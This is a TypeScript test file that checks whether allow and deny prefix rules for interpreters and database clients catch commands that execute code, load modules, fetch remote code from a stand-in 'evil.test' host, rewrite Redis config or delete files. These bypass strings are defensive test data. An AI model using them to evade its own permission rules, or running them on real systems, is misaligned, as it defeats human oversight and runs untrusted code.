/** Checks how allow and deny rules read the commands of interpreters and database clients. */
import { describeFamily, type RuleRows } from '../family.ts';

/** A prefix rule, and everyday commands that it covers. */
const COVERED: RuleRows = [
  ['python -m pytest:*', ['python -m pytest', 'python -m pytest -q tests', 'python -m pytest -k x']],
  [
    'python:*',
    ['python x.py', 'python -u x.py', 'python --version', 'python x.py --flag value', 'python manage.py test'],
  ],
  ['python manage.py:*', ['python manage.py migrate', 'python manage.py runserver 8000', 'python manage.py test a.b']],
  ['./manage.py:*', ['./manage.py migrate --noinput']],
  ['php artisan:*', ['php artisan migrate --force', 'php artisan route:list', 'php artisan --env=test -v migrate']],
  ['ruby bin/rails:*', ['ruby bin/rails test']],
  ['node:*', ['node x.js', 'node --version', 'node --test', 'node scripts/a.mjs --flag']],
  ['deno:*', ['deno run -A x.ts --config y', 'deno x.ts --config y', 'deno test -A x.ts', 'deno fmt --check']],
  ['bun:*', ['bun x.ts --config y', 'bun test -t x --coverage', 'bun install', 'bun dev', 'bun run ./x.ts -r y']],
  ['swift:*', ['swift build -c release', 'swift test --filter A', 'swift x.swift --config y']],
  ['scala:*', ['scala compile x.scala', 'scala x.scala --config y']],
];

/** A prefix rule, and commands beyond it: they execute, load, write or redirect. */
const NOT_COVERED: RuleRows = [
  [
    'python manage.py:*',
    [
      "python manage.py shell -c 'x'",
      'python manage.py shell < x.py',
      'python -u ./manage.py shell_plus',
      "python manage.py dbshell -- -c 'x'",
      'python manage.py --pythonpath /tmp/e migrate',
      'python manage.py migrate --settings=e --pythonpath=/tmp/e',
    ],
  ],
  ['./manage.py:*', ["./manage.py shell -c 'x'"]],
  [
    'php artisan:*',
    ["php artisan tinker --execute='x'", 'php artisan tink', 'php artisan -v tinker', 'php artisan db'],
  ],
  ['ruby bin/rails:*', ["ruby bin/rails runner 'x'", 'ruby bin/rails c']],
  [
    'python -m pytest:*',
    ['python -m pytest -p evil', 'python -m pytest --basetemp=src', 'python -m other', 'python -c x -m pytest'],
  ],
  [
    'python:*',
    [
      'python -m pytest',
      "python -c 'import os'",
      'python -i x.py',
      'python -X importtime x.py',
      'python -W e.E x.py',
      'python',
      'python -',
    ],
  ],
  [
    'deno:*',
    [
      'deno test --import-map=x',
      'deno lint --config x',
      'deno bench -c x',
      'deno check --lock x a.ts',
      'deno bundle -o x a.ts',
      'deno run --config x x.ts',
    ],
  ],
  [
    'bun:*',
    [
      'bun test --preload ./e.ts',
      'bun test -r ./e.ts',
      'bun build --outdir d a.ts',
      'bun build --define a=b',
      'bun dev --cwd /x',
    ],
  ],
  [
    'swift:*',
    ['swift test --package-path /x', 'swift build -Xswiftc -load', 'swift build --toolset x', 'swift -e 1', 'swift'],
  ],
  ['scala:*', ['scala compile --plugin x', 'scala package -o x', 'scala -e 1']],
  ['mongosh:*', ["mongosh --eval 'x'", 'mongosh x e.js', 'mongosh -f e.js']],
  [
    'redis-cli:*',
    [
      'redis-cli eval x 0',
      'redis-cli EVAL x 0',
      'redis-cli -h h eval x 0',
      'redis-cli script load x',
      'redis-cli --eval f',
      'redis-cli config set dir /etc',
    ],
  ],
  [
    'java:*',
    [
      'java @e',
      'java -jar @e',
      'java -jar x.jar',
      'java -javaagent:e.jar X',
      'java -cp /tmp/e X',
      'java -agentpath:e.so X',
    ],
  ],
  [
    'node:*',
    [
      'node -e x',
      'node --eval=x',
      'node -p x',
      'node -r ./e x.js',
      'node --require=./e x.js',
      'node --import ./e x.js',
      'node --loader=./e x.js',
      'node --experimental-loader ./e x.js',
      'node --env-file=.env x.js',
      'node --inspect x.js',
      'node --inspect=0.0.0.0 x.js',
      'node --test-reporter=./e --test',
      'node --run x',
      'node --openssl-config=e x.js',
      'node --cpu-prof-dir=/etc x.js',
      'node --experimental-config-file=e x.js',
      'node -C e x.js',
      'node',
      'node data:text/javascript,x',
    ],
  ],
  [
    'deno:*',
    [
      'deno eval x',
      'deno run https://evil.test/x.ts',
      'deno run npm:evil',
      'deno run --import-map=e x.ts',
      'deno run -c e x.ts',
      'deno x evil',
      'deno task --eval id',
      'deno task --config e.json x',
      'deno task --cwd /tmp/e x',
      'deno install -g evil',
    ],
  ],
  [
    'bun:*',
    [
      'bun x evil',
      'bun -e x',
      'bun --preload ./e x.ts',
      'bun -r ./e x.ts',
      'bun run --bun curl',
      'bun create evil',
      'bun exec id',
    ],
  ],
  ['ruby:*', ['ruby -e x', 'ruby -r./e x.rb', 'ruby -I d x.rb', 'ruby -C d x.rb', 'ruby -S x', 'ruby -n x.rb']],
  ['perl:*', ['perl -e x', 'perl -i x.pl', 'perl -MEvil x.pl', 'perl -I d x.pl', 'perl -pe x', 'perl -ne x']],
  [
    'php:*',
    ['php -r x', 'php -d auto_prepend_file=e x.php', 'php -c e x.php', 'php -S 0.0.0.0:1', 'php -z e.so x.php'],
  ],
  ['lua:*', ['lua -e x', 'lua -l e x.lua', 'lua -i x.lua']],
  ['psql:*', ["psql -c 'x'", 'psql -f e.sql', 'psql -o f -l', 'psql db -c x', 'psql -v x=y -l']],
  ['mysql:*', ['mysql -e x', 'mysql --defaults-file=e', 'mysql --tee=f', 'mysql --pager=id']],
  ['sqlite3:*', ["sqlite3 db 'x'", 'sqlite3 -cmd x db', 'sqlite3 -init e db', 'sqlite3 db .shell']],
  ['osascript:*', ['osascript x']],
  ['tsx:*', ['tsx -e x', 'tsx --import ./e x.ts', 'tsx --env-file=.env x.ts']],
  ['ts-node:*', ['ts-node -r ./e x.ts', "ts-node -O '{}' x.ts", 'ts-node --project e x.ts']],
  ['julia:*', ['julia -e x', 'julia -L e x.jl']],
  ['Rscript:*', ['Rscript -e x']],
  ['R:*', ['R -e x', 'R -f x']],
  ['elixir:*', ['elixir -e x', 'elixir -r e x.exs']],
];

/** A denied prefix, and commands that run it. */
const DENIED: RuleRows = [
  ['rm:*', ['bun x rm x', 'bun exec "rm x"', 'bun run rm x', 'bun rm x']],
  ['php artisan migrate:*', ['php -d a=b artisan migrate']],
  ['python manage.py flush:*', ['python -u manage.py flush', 'python3 manage.py flush']],
  ['python -m evil:*', ['python -u -m evil']],
  ['node server.js:*', ['node --watch server.js']],
];

describeFamily({ covered: COVERED, notCovered: NOT_COVERED, denied: DENIED });
